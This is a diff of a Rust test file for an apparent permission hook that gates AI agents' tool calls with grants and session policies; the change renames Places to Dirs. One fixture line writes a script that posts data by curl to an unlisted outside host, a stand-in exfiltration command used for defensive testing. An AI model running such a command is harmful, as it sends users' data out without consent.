@@ -18,7 +18,7 @@ use crate::hook::grant_check::{Found, GrantCheck};
 use crate::hook::{Surroundings, answer as hook};
 use crate::machine::agent::Agent;
 use crate::machine::clock::now_ms;
-use crate::machine::paths::Places;
+use crate::machine::paths::Dirs;
 use crate::machine::record::{self, Ledger};
 use crate::memory::grants::store::{Desk, Grant, LASTS_MS};
 
@@ -44,15 +44,15 @@ impl Room {
         room.put("project/input.txt", "one\n");
         room.put("other/run.sh", "curl -d @data https://unlisted.example.org\n");
         room.put("other/input.txt", "one\n");
-        record::begin(&room.places()).unwrap();
+        record::begin(&room.dirs()).unwrap();
         room.accept();
         room
     }
 
     /// A person accepts the configuration as it is.
     fn accept(&self) {
-        let loaded = crate::policy::load::load(&self.places(), None, "pi");
-        crate::policy::approved_config::accept(&self.places(), &loaded, &mut self.ledger()).unwrap();
+        let loaded = crate::policy::load::load(&self.dirs(), None, "pi");
+        crate::policy::approved_config::accept(&self.dirs(), &loaded, &mut self.ledger()).unwrap();
     }
 
     fn at(&self, name: &str) -> PathBuf {
@@ -66,12 +66,12 @@ impl Room {
         std::fs::set_permissions(&path, PermissionsExt::from_mode(0o600)).unwrap();
     }
 
-    fn places(&self) -> Places {
-        Places::at(self.at("home").to_str().unwrap())
+    fn dirs(&self) -> Dirs {
+        Dirs::at(self.at("home").to_str().unwrap())
     }
 
     fn desk(&self) -> Desk {
-        Desk::of(&self.places()).unwrap()
+        Desk::of(&self.dirs()).unwrap()
     }
 
     fn desk_at(&self, now_ms: u64) -> Desk {
@@ -81,7 +81,7 @@ impl Room {
     }
 
     fn ledger(&self) -> Ledger {
-        Ledger::of(&self.places())
+        Ledger::of(&self.dirs())
     }
 
     /// What the hook says: the word and the reason.
@@ -90,7 +90,7 @@ impl Room {
             "session_id": "s", "cwd": self.at(directory), "hook_event_name": "PreToolUse", "tool_name": tool,
             "tool_input": input, "tool_use_id": format!("t{}", now_ms()),
         });
-        let surroundings = Surroundings { agent: self.agent, places: self.places(), attended: self.attended };
+        let surroundings = Surroundings { agent: self.agent, dirs: self.dirs(), attended: self.attended };
         let reply = hook(payload.to_string().as_bytes(), &surroundings).unwrap();
         let said: serde_json::Value = serde_json::from_str(&reply.stdout).unwrap();
         let said = |key: &str| said["hookSpecificOutput"][key].as_str().unwrap().to_owned();
@@ -129,7 +129,7 @@ impl Room {
 
     /// The steps of all grants in the record, with their reasons.
     fn steps(&self) -> Vec<(GrantStep, Option<String>)> {
-        let log = Log::open(&record::directory(&self.places())).unwrap();
+        let log = Log::open(&record::directory(&self.dirs())).unwrap();
         let grants = log.records().unwrap().map(Result::unwrap).filter(|record| record.header.kind == Kind::Grant);
         let body =
             |record: doorward_ledger::Record| serde_json::from_slice::<GrantBody>(&record.body.unwrap()).unwrap();
@@ -322,12 +322,12 @@ fn of_a_thousand_calls_that_race_for_a_yes_exactly_one_runs() {
     let room = Room::new();
     let _asked = room.bash(ASKED);
     room.approve(&room.only_pending());
-    let places = room.places();
+    let dirs = room.dirs();
     let cwd = room.at("project").to_str().unwrap().to_owned();
     let mut call = doorward_engine::ToolCall::bash(ASKED, cwd.clone());
     (call.agent, call.session) = ("claude".into(), "s".into());
-    let mut loaded = crate::policy::load::load(&places, Some(&cwd), "claude");
-    crate::policy::session_policy::hold(&places, "s", &mut loaded);
+    let mut loaded = crate::policy::load::load(&dirs, Some(&cwd), "claude");
+    crate::policy::session_policy::hold(&dirs, "s", &mut loaded);
     let policy = loaded.policy(Mode::Auto).unwrap();
     // Forty at once are more than any machine runs side by side, and few enough for one that allows few threads.
     let (at_once, ready) = (40, Barrier::new(40));
@@ -335,12 +335,12 @@ fn of_a_thousand_calls_that_race_for_a_yes_exactly_one_runs() {
     std::thread::scope(|scope| {
         for _ in 0..at_once {
             scope.spawn(|| {
-                let session = std::rc::Rc::new(crate::memory::session::Session::of(&places, "s"));
-                let world = crate::memory::world::disk::DiskWorld::new(&places, &cwd, Some(cwd.clone()), &loaded)
+                let session = std::rc::Rc::new(crate::memory::session::Session::of(&dirs, "s"));
+                let world = crate::memory::world::disk::DiskWorld::new(&dirs, &cwd, Some(cwd.clone()), &loaded)
                     .in_session(session);
                 let considered = crate::memory::evaluation::consider(&call, &world, &policy);
                 let (mode, key) = (Mode::Auto, [0; 16]);
-                let door = GrantCheck { places: &places, call: &call, mode, loaded: &loaded, project: Some(&cwd), key };
+                let door = GrantCheck { dirs: &dirs, call: &call, mode, loaded: &loaded, project: Some(&cwd), key };
                 ready.wait();
                 for _ in 0..1000 / at_once {
                     match door.redeem(&considered, "d") {
@@ -521,7 +521,7 @@ fn nothing_is_put_down_in_shadow_and_secrets_are_not_kept() {
         "tool_input": { "command": ASKED }, "tool_use_id": "t",
     });
     let surroundings =
-        Surroundings { agent: crate::machine::agent::Agent::Claude, places: room.places(), attended: true };
+        Surroundings { agent: crate::machine::agent::Agent::Claude, dirs: room.dirs(), attended: true };
     assert_eq!(hook(payload.to_string().as_bytes(), &surroundings).unwrap().stdout, "");
     assert!(room.desk().open().is_empty());
 }
@@ -535,7 +535,7 @@ fn said_to(room: &Room, session: &str, subagent: &str, input: serde_json::Value)
     if !subagent.is_empty() {
         payload["agent_id"] = json!(subagent);
     }
-    let surroundings = Surroundings { agent: room.agent, places: room.places(), attended: room.attended };
+    let surroundings = Surroundings { agent: room.agent, dirs: room.dirs(), attended: room.attended };
     let reply = hook(payload.to_string().as_bytes(), &surroundings).unwrap();
     let said: serde_json::Value = serde_json::from_str(&reply.stdout).unwrap();
     said["hookSpecificOutput"]["permissionDecision"].as_str().unwrap().to_owned()
@@ -570,7 +570,7 @@ fn a_yes_for_a_session_is_none_for_its_subagents() {
         if !subagent.is_empty() {
             payload["agent_id"] = json!(subagent);
         }
-        let surroundings = Surroundings { agent: room.agent, places: room.places(), attended: room.attended };
+        let surroundings = Surroundings { agent: room.agent, dirs: room.dirs(), attended: room.attended };
         let reply = hook(payload.to_string().as_bytes(), &surroundings).unwrap();
         reply.stdout.contains("\"allow\"")
     };
